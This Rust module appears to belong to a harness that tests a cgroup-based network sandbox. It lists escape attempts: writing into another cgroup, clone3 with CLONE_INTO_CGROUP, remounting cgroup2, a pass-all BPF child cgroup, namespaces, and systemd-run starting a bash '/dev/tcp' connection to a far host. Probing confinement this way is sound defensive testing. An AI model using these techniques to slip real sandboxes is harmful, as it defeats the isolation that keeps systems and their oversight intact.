//! Leaving the cgroup, and having others start something outside of it.

use std::{fs, os::fd::AsRawFd, process::Command};

use nix::libc;

use super::{Attempt, dial, needs};
use crate::{
    bpf,
    scene::Scene,
    sys::{self, At, Tried},
};

pub const ALL: &[Attempt] = &[
    Attempt::new("cgroup-procs", "write itself into another cgroup's cgroup.procs", |scene| {
        let members = format!("{}/cgroup.procs", scene.free_cgroup);
        fs::write(members, std::process::id().to_string()).at("cgroup.procs")?;
        dial(scene)
    })
    .root_needs(needs::CGROUPS),
    Attempt::new("cgroup-threads", "make its cgroup threaded, and move a thread out", threads)
        .root_needs(needs::CGROUPS),
    Attempt::new("clone-into-cgroup", "clone3 with CLONE_INTO_CGROUP", clone_into).root_needs(needs::CGROUPS),
    Attempt::new("cgroup-mount", "mount the cgroup hierarchy anew, and leave by it", mount_again)
        .root_needs(needs::CGROUPS),
    Attempt::new("cgroup-child", "a cgroup below its own, with a program that lets all pass", child),
    Attempt::new("container", "a child in user, PID and mount namespaces of its own", |scene| {
        unshared(libc::CLONE_NEWUSER | libc::CLONE_NEWPID | libc::CLONE_NEWNS)?;
        dial(scene)
    }),
    Attempt::new("service-manager", "have systemd start something, over D-Bus", |scene| {
        let script = format!("exec 3<>/dev/tcp/{}/{}; echo {} >&3", scene.far().ip(), scene.port, scene.marker);
        let mut command = Command::new("systemd-run");
        started(command.args(["--quiet", "--collect", "--wait", "bash", "-c", &script]))
    })
    .root_needs(needs::D_BUS),
    Attempt::new("cron", "write a line for cron, which runs outside", |_| writable("/etc/cron.d"))
        .by_consent()
        .root_needs(needs::NOT_ROOT),
];

fn clone_into(scene: &Scene) -> Tried {
    const CLONE_INTO_CGROUP: u64 = 0x2_0000_0000;
    let path = sys::c_string(&scene.free_cgroup).at("path")?;
    let flags = (libc::O_RDONLY | libc::O_DIRECTORY) as u64;
    let cgroup =
        sys::opening(libc::SYS_openat, [libc::AT_FDCWD as u64, path.as_ptr() as u64, flags, 0, 0]).at("open")?;
    // `struct clone_args`, with a signal to wait for and the cgroup last.
    let mut arguments = [0_u64; 11];
    for (index, value) in [(0, CLONE_INTO_CGROUP), (4, libc::SIGCHLD as u64), (10, cgroup.as_raw_fd() as u64)] {
        if let Some(place) = arguments.get_mut(index) {
            *place = value;
        }
    }
    let size = size_of_val(&arguments) as u64;
    let child = sys::call(libc::SYS_clone3, [arguments.as_ptr() as u64, size, 0, 0, 0]).at("clone3")?;
    if child == 0 {
        let code = dial(scene).is_err();
        // SAFETY: ends the child, which shares nothing.
        unsafe { libc::_exit(code.into()) };
    }
    // SAFETY: waits for the child.
    unsafe { libc::waitpid(child as i32, std::ptr::null_mut(), 0) };
    Ok(())
}

fn threads(scene: &Scene) -> Tried {
    fs::write(format!("{}/cgroup.threads", scene.free_cgroup), "0").at("cgroup.threads")?;
    dial(scene)
}

fn mount_again(scene: &Scene) -> Tried {
    unshared(libc::CLONE_NEWNS)?;
    let point = std::env::temp_dir().join(format!("{}-{}", scene.instance, std::process::id()));
    fs::create_dir_all(&point).at("mkdir")?;
    let mounted = nix::mount::mount(Some("none"), &point, Some("cgroup2"), nix::mount::MsFlags::empty(), None::<&str>)
        .at("mount");
    let left = mounted.and_then(|()| fs::write(point.join("cgroup.procs"), std::process::id().to_string()).at("leave"));
    let _ = nix::mount::umount(&point);
    let _ = fs::remove_dir(&point);
    left?;
    dial(scene)
}

/// A program of one's own below: the parent's still runs.
fn child(scene: &Scene) -> Tried {
    let below = format!("{}/below", scene.own_cgroup);
    fs::create_dir_all(&below).at("mkdir")?;
    let went = fs::write(format!("{below}/cgroup.procs"), std::process::id().to_string())
        .at("cgroup.procs")
        .and_then(|()| bpf::pass_every_connect(&below))
        .and_then(|()| dial(scene));
    let _ = fs::write(format!("{}/cgroup.procs", scene.own_cgroup), std::process::id().to_string());
    let _ = fs::remove_dir(&below);
    went
}

/// Unshares, and goes on in a child, which is the first that a PID namespace holds.
pub fn unshared(flags: i32) -> Tried {
    sys::call(libc::SYS_unshare, [flags as u64, 0, 0, 0, 0]).at("unshare").map(drop)
}

fn started(command: &mut Command) -> Tried {
    let output = command.output().at("start")?;
    match output.status.success() {
        true => Ok(()),
        false => Err(std::io::Error::other(String::from_utf8_lossy(&output.stderr).trim().to_owned())).at("start"),
    }
}

/// Whether the kernel would let this process write there; nothing is written.
pub fn writable(path: &str) -> Tried {
    let path = sys::c_string(path).at("path")?;
    let arguments = [libc::AT_FDCWD as u64, path.as_ptr() as u64, libc::W_OK as u64, libc::AT_EACCESS as u64, 0];
    sys::call(libc::SYS_faccessat2, arguments).at("access").map(drop)
}
